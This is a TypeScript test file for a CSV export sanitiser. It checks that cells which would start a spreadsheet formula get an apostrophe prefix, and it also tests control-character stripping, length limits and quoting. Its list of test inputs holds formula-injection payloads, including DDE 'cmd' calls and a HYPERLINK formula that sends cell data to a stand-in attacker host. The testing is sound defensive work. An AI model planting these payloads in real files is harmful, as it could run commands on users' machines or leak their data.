import { describe, expect, test } from "vitest";
import { toCsv } from "./csv";
import { safeCell } from "./safe-cell";

/** What people have put into cells to make a spreadsheet calculate, call a program or fetch an address. */
const nasty = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@import",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\0=1+1",
  "\u0001=1+1",
  "\u000b=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u2003+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "\u2066@x",
  "\u00ad-1",
  '"=1+1',
  '" =1+1',
  "'=1+1",
  "' '\"=1+1",
  "“=1+1”",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\u3000＝1+1",
  "﹢1",
  "﹣1",
  "﹦1",
  "﹫x",
  "−1",
  "|calc",
  "%0A=1",
  "｜calc",
  "％x",
  "\u0085=1",
  "\u2028=1",
];

const harmless = ["Ada", "Ада", "😀", "1", "a=b", "x@y", "C++", "семь-восемь", "deadlock\nstuck", "'", ""];

describe("RX3 no cell begins a formula", () => {
  test.each(nasty)("%j gets an apostrophe in front", (text) => {
    expect(safeCell(text)).toMatch(/^'/);
  });

  test.each(harmless)("%j stays as it is", (text) => {
    expect(safeCell(text)).toBe(text);
  });

  test("nor does a piece of one, for a program that parts fields elsewhere", () => {
    const csv = toCsv(
      { name: "x", header: ["a"], rows: [["Ada;=1+1"], ['x,"=1'], ["a\n@b"]] },
      { decimalComma: false },
    );
    expect(csv.split("\r\n").slice(1, -1)).toEqual([`"Ada;'=1+1"`, `"x,'""=1"`, `"a\n'@b"`]);
  });
});

describe("RX4 what a cell cannot hold", () => {
  test("is taken out: control characters, lone surrogates, non-characters", () => {
    expect(safeCell("a\u0000b\u0007c\u001bd\ud800e\uffffg\u{1fffe}h")).toBe("abcdegh");
    expect(safeCell("two\r\nlines\tand a tab")).toBe("two\nlines\tand a tab");
    expect(safeCell("👩‍🔬 é")).toBe("👩‍🔬 é");
  });

  test("ends after 32,000 characters, and no character is cut in two", () => {
    expect(safeCell("a".repeat(50_000))).toBe(`${"a".repeat(32_000)}…`);
    expect(safeCell(`${"a".repeat(31_999)}😀😀`)).toBe(`${"a".repeat(31_999)}…`);
  });
});

describe("RX1 CSV", () => {
  const table = {
    name: "x",
    header: ["name", "seconds"],
    rows: [
      ['Ada "the first", Countess', 1.5],
      ["Bob", null],
    ],
  };

  test("begins with a byte order mark, doubles quotes, ends lines in CRLF", () => {
    const expected = '\ufeff"name","seconds"\r\n"Ada ""the first"", Countess",1.5\r\n"Bob",\r\n';
    expect(toCsv(table, { decimalComma: false })).toBe(expected);
  });

  test("has semicolons where numbers have commas", () => {
    expect(toCsv(table, { decimalComma: true })).toContain('\r\n"Ada ""the first"", Countess";1,5\r\n"Bob";\r\n');
  });
});
